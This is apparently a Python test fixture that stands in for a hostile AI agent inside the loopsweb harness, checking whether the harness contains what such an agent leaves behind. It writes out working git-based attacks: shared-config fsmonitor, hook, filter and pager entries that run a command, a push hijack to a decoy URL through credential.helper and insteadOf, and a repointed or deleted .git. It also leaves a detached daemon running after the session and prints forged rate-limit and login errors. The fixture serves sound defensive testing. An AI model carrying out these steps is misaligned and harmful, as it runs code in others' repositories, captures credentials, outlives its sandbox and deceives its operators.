#!/usr/bin/env python3
"""A hostile agent stand-in (issue 38): what an agent steered by a prompt someone else wrote
can do to the worktree loopsweb gives it. Standard library only; accepts any provider's argv
and exits 0 (the attack is in what it leaves behind, not in failing).

Its prompt (the argv item after `--`, or the last argv item) names the cases, as outside
text steering an agent would: `HOSTILE_CASES=own-repo,setsid`. Only the `worker` step acts
(LOOPSWEB_STEP_ID); every step writes `agent-work-<step>.txt` in its working directory (the
agent's work, which must survive on the run's branch or in a kept worktree).

Cases:
- `own-repo`: the worktree's `.git` file replaced by a repository of its own (`git init .`)
  whose `core.fsmonitor` is the mark command;
- `shared-config`: in the worktree as given, `git config` (which writes the PROJECT's
  repository config, shared by every worktree) of `core.fsmonitor`, `core.hooksPath` (with
  hooks), a filter driver named in a `.gitattributes` it commits nothing of, `diff.external`,
  a textconv and a pager: each the mark command;
- `main-gitdir`: `.git` repointed at the project's main git dir;
- `no-dotgit`: `.git` deleted, so a git that looked would find the repository above;
- `push-config` (issue 40): the project's config made to hijack a push: `remote.origin.url`
  and `pushurl` set to `$HOSTILE_DECOY_URL`, a `url.<decoy>.insteadOf` of the real origin,
  a `credential.helper`, `core.sshCommand` and a `pre-push` hook (in `core.hooksPath` and
  in the repository's own hooks dir), each the mark command;
- `setsid`: a daemon (double fork, `setsid`) left running, its pid appended to
  `$HOSTILE_DIR/pids`;
- `forge-429` (issue 58): a forged provider rate limit lasting a week printed (`HTTP 429 Too
  Many Requests: try again in 168 hours`), exit 1;
- `forge-login` (issue 58): a forged refused login printed (`Not logged in`), exit 1.

The mark command appends a line to `$HOSTILE_DIR/marks` and passes its input through (so a
filter using it would "work"): a mark file means loopsweb ran the agent's command.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import time
from pathlib import Path


def _cases(argv: list[str]) -> set[str]:
    prompt = (
        argv[argv.index("--") + 1] if "--" in argv[:-1] else (argv[-1] if argv else "")
    )
    for word in prompt.replace("\n", " ").split():
        if word.startswith("HOSTILE_CASES="):
            return set(word.split("=", 1)[1].split(","))
    return set()


def _mark_command(hostile: Path) -> str:
    script = hostile / "mark.sh"
    if not script.exists():
        script.write_text(
            "#!/bin/sh\n"
            f'echo "ran by $(id -un) in $(pwd): $0 $*" >> {hostile / "marks"}\n'
            "cat\n"
        )
        script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return str(script)


def _git(*args: str) -> None:
    # The agent's own git: plain, in its working directory, as an attacker would run it.
    subprocess.run(["git", *args], check=True, capture_output=True)


def _main_git_dir() -> Path:
    text = Path(".git").read_text()
    return Path(text.removeprefix("gitdir:").strip()).parent.parent


def _own_repo(mark: str) -> None:
    Path(".git").unlink()
    _git("init", "-q", ".")
    _git("config", "core.fsmonitor", mark)
    _git("config", "core.hooksPath", str(Path(mark).parent / "hooks"))


def _shared_config(mark: str) -> None:
    hooks = Path(mark).parent / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("pre-commit", "post-commit", "post-checkout", "reference-transaction"):
        (hooks / name).write_text(f"#!/bin/sh\nexec {mark} hook-{name} </dev/null\n")
        (hooks / name).chmod(0o755)
    for key, value in (
        ("core.fsmonitor", mark),
        ("core.hooksPath", str(hooks)),
        ("filter.evil.clean", mark),
        ("filter.evil.smudge", mark),
        ("filter.evil.required", "true"),
        ("diff.external", mark),
        ("diff.evil.textconv", mark),
        ("core.pager", mark),
        ("core.sshCommand", mark),
    ):
        _git("config", key, value)
    Path(".gitattributes").write_text("* filter=evil diff=evil\n")


def _push_config(mark: str) -> None:
    decoy = os.environ["HOSTILE_DECOY_URL"]
    origin = subprocess.run(
        ["git", "config", "--get", "remote.origin.url"], capture_output=True, text=True
    ).stdout.strip()
    hooks = Path(mark).parent / "hooks"
    hooks.mkdir(exist_ok=True)
    own_hooks = _main_git_dir() / "hooks"
    for where in (hooks, own_hooks):
        where.mkdir(parents=True, exist_ok=True)
        (where / "pre-push").write_text(f"#!/bin/sh\nexec {mark} hook-pre-push\n")
        (where / "pre-push").chmod(0o755)
    for key, value in (
        ("remote.origin.url", decoy),
        ("remote.origin.pushurl", decoy),
        ("credential.helper", f"!{mark} credential"),
        ("core.sshCommand", mark),
        ("core.hooksPath", str(hooks)),
    ):
        _git("config", key, value)
    if origin:
        _git("config", f"url.{decoy}.insteadOf", origin)
        _git("config", f"url.{decoy}.pushInsteadOf", origin)


def _setsid(hostile: Path) -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with (hostile / "pids").open("a") as out:
                out.write(f"{os.getpid()}\n")
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            time.sleep(600)
        os._exit(0)
    os.wait()
    # The daemon has written its pid before the step ends.
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and not (hostile / "pids").exists():
        time.sleep(0.05)


def main(argv: list[str]) -> int:
    step = os.environ.get("LOOPSWEB_STEP_ID", "step")
    Path(f"agent-work-{step}.txt").write_text(f"work of step {step}\n")
    print(f"HOSTILE_AGENT step={step} cwd={os.getcwd()}", flush=True)
    if step != "worker":
        return 0
    hostile = Path(os.environ["HOSTILE_DIR"])
    hostile.mkdir(parents=True, exist_ok=True)
    cases = _cases(argv)
    mark = _mark_command(hostile)
    if "setsid" in cases:
        _setsid(hostile)
    if "shared-config" in cases:
        _shared_config(mark)
    if "push-config" in cases:
        _push_config(mark)
    if "main-gitdir" in cases:
        Path(".git").write_text(f"gitdir: {_main_git_dir()}\n")
    if "no-dotgit" in cases:
        Path(".git").unlink()
    if "own-repo" in cases:
        _own_repo(mark)
    print(f"HOSTILE_AGENT did {sorted(cases)}", flush=True)
    return _forged(cases)


FORGED = {
    "forge-429": "HTTP 429 Too Many Requests: try again in 168 hours",
    "forge-login": "Not logged in \u00b7 Please run /login",
}


def _forged(cases: set[str]) -> int:
    """What the forging cases print about the account (the CLI's own words); 1 when one did."""
    said = [FORGED[case] for case in sorted(cases) if case in FORGED]
    for line in said:
        print(line, flush=True)
    return 1 if said else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
